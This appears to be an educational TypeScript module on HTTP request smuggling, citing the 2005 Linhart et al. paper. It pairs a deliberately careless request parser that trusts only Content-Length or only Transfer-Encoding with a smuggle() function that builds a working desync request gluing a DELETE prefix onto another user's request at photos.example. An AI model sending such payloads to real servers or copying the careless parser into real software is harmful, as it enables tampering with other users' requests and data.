import {encodeUtf8} from '../kernel';
import {decodeChunked} from './chunked';
import {find, latin1} from './octets';

/** Which field a careless program believes when a request has both. */
export type Believes = 'content-length' | 'transfer-encoding';

// #region careless
/**
 * Cuts a connection into requests the careless way: it looks for the one field that it believes and doesn't mind the other.
 * Two of these in a row, of different belief, are a desync.
 *
 * Source: C. Linhart, A. Klein, R. Heled and S. Orrin, "HTTP Request Smuggling", 2005.
 *
 * @returns the bytes of each request as text, and at the end what is left over and waits for more
 */
export function cutCarelessly(stream: string, believes: Believes): string[] {
  const bytes = encodeUtf8(stream);
  const requests: string[] = [];
  let at = 0;
  while (at < bytes.length) {
    const headEnd = find(bytes, encodeUtf8('\r\n\r\n'), at);
    if (headEnd < 0) break;
    const head = latin1(bytes.subarray(at, headEnd));
    const start = headEnd + 4;
    const chunked = /^transfer-encoding:.*chunked/im.test(head);
    const length = Number(/^content-length:[ \t]*([0-9]+)/im.exec(head)?.[1] ?? 0);
    const useChunks = chunked && (believes === 'transfer-encoding' || !/^content-length:/im.test(head));
    const end = useChunks ? decodeChunked(bytes, start, bytes.length)?.end : start + length;
    if (end === undefined || end > bytes.length) break;
    requests.push(latin1(bytes.subarray(at, end)));
    at = end;
  }
  const rest = latin1(bytes.subarray(at));
  return rest === '' ? requests : [...requests, rest];
}
// #endregion careless

// #region attack
/** A prefix that the attacker wants glued in front of somebody else's request. Its last line is left open on purpose. */
const PREFIX = 'DELETE /photos/p17 HTTP/1.1\r\nHost: photos.example\r\nX-Ignore: ';

/** One request to a program that believes Content-Length, and a request and a half to one that believes Transfer-Encoding. */
export function smuggle(): string {
  const body = `0\r\n\r\n${PREFIX}`;
  const head = [
    'POST /search HTTP/1.1',
    'Host: photos.example',
    `Content-Length: ${body.length}`,
    'Transfer-Encoding: chunked',
  ];
  return `${head.join('\r\n')}\r\n\r\n${body}`;
}
// #endregion attack
